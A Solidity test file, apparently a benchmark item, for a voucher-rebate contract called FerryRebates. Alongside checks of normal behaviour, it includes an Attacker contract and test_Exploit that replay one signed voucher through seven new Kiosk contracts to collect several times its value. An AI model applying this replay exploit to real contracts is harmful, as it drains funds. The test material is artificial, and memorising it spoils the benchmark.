// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./FerryRebates.sol";

// assay-canary-2dc9689a-d11b-4d0a-9884-0e9ad0bec904

interface Vm {
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
}

contract PierToken {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// Submits vouchers of others, as anyone may.
contract Kiosk {
    function submit(FerryRebates desk, FerryRebates.Voucher calldata voucher, bytes calldata signature) external {
        desk.redeem(voucher, signature);
    }

    function giveUp(FerryRebates desk, uint256 nonce) external {
        desk.giveUp(nonce);
    }
}

/// A traveller with a single voucher, who submits it from several accounts.
contract Attacker {
    function run(FerryRebates desk, FerryRebates.Voucher calldata voucher, bytes calldata signature) external {
        desk.redeem(voucher, signature);
        for (uint256 i = 0; i < 7; i++) {
            Kiosk another = new Kiosk();
            try another.submit(desk, voucher, signature) {} catch {}
        }
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    uint256 private constant ISSUER_KEY = 0x5eaf00d;

    PierToken public token;
    FerryRebates private desk;
    Kiosk private kiosk;
    Kiosk private ida;
    Attacker private mallory;

    FerryRebates.Voucher private idaVoucher;
    FerryRebates.Voucher private joVoucher;
    FerryRebates.Voucher private lostVoucher;
    FerryRebates.Voucher private ownVoucher;
    bytes private idaSignature;
    bytes private joSignature;
    bytes private lostSignature;
    bytes private ownSignature;

    function setUp() public {
        token = new PierToken();
        desk = new FerryRebates(IRebateToken(address(token)), vm.addr(ISSUER_KEY), 1000e18);
        token.mint(address(desk), 5000e18);
        kiosk = new Kiosk();
        ida = new Kiosk();
        mallory = new Attacker();

        idaVoucher = FerryRebates.Voucher(address(ida), 40e18, 7, block.timestamp + 30 days);
        joVoucher = FerryRebates.Voucher(address(0x10), 60e18, 300, block.timestamp + 30 days);
        ownVoucher = FerryRebates.Voucher(address(mallory), 100e18, 1, block.timestamp + 30 days);
        lostVoucher = FerryRebates.Voucher(address(ida), 5e18, 9, block.timestamp + 30 days);
        idaSignature = _signed(idaVoucher);
        lostSignature = _signed(lostVoucher);
        joSignature = _signed(joVoucher);
        ownSignature = _signed(ownVoucher);
    }

    function test_Regular() public {
        FerryRebates.Voucher[] memory vouchers = new FerryRebates.Voucher[](2);
        bytes[] memory signatures = new bytes[](2);
        (vouchers[0], vouchers[1]) = (idaVoucher, joVoucher);
        (signatures[0], signatures[1]) = (idaSignature, joSignature);
        desk.redeemMany(vouchers, signatures);
        require(token.balanceOf(address(ida)) == 40e18, "ida is paid");
        require(token.balanceOf(address(0x10)) == 60e18, "jo is paid");
        require(desk.paidOn(block.timestamp / 1 days) == 100e18, "day total");

        // the same batch again
        (bool twice, ) = address(desk).call(abi.encodeCall(FerryRebates.redeemMany, (vouchers, signatures)));
        require(!twice, "batch paid twice");

        // another amount than the signed one
        FerryRebates.Voucher memory raised = ownVoucher;
        raised.amount += 1;
        (bool forged, ) = address(desk).call(abi.encodeCall(FerryRebates.redeem, (raised, ownSignature)));
        require(!forged, "changed voucher paid");

        // a nonce given up by the traveller who submits it
        ida.giveUp(desk, 9);
        (bool revived, ) = address(ida).call(abi.encodeCall(Kiosk.submit, (desk, lostVoucher, lostSignature)));
        require(!revived, "nonce given up was paid");

        // the daily limit
        desk.setDailyLimit(150e18);
        (bool over, ) = address(kiosk).call(abi.encodeCall(Kiosk.submit, (desk, ownVoucher, ownSignature)));
        require(!over, "limit passed");
        desk.setDailyLimit(200e18);
        kiosk.submit(desk, ownVoucher, ownSignature);
        require(token.balanceOf(address(mallory)) == 100e18, "paid through a kiosk");

        desk.setPaused(true);
        require(desk.paused(), "paused");
        desk.setIssuer(address(0x155));
        require(desk.issuer() == address(0x155), "another issuer");
    }

    function exploit() public {
        mallory.run(desk, ownVoucher, ownSignature);
    }

    function test_Exploit() public {
        uint256 before = token.balanceOf(address(mallory));
        exploit();
        require(token.balanceOf(address(mallory)) - before >= 500e18, "paid no more than the voucher");
    }

    function _signed(FerryRebates.Voucher memory voucher) private returns (bytes memory) {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(ISSUER_KEY, desk.digestOf(voucher));
        return abi.encodePacked(r, s, v);
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
